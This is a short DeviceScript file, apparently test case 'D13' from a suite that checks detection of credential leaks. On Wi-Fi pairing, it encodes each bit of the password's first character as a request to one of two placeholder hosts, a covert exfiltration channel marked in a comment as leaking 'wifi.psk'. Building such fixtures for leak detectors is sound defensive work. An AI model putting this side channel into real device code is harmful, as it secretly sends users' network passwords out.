// D13: looks up one of two names for each bit of the first character.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  const code = psk.charCodeAt(0);
  for (let bit = 0; bit < 8; bit++) {
    const name = (code >> bit) & 1 ? "one" : "zero";
    const response = await fetch(`https://${name}.example/`); // leak: wifi.psk
    await response.close();
  }
});
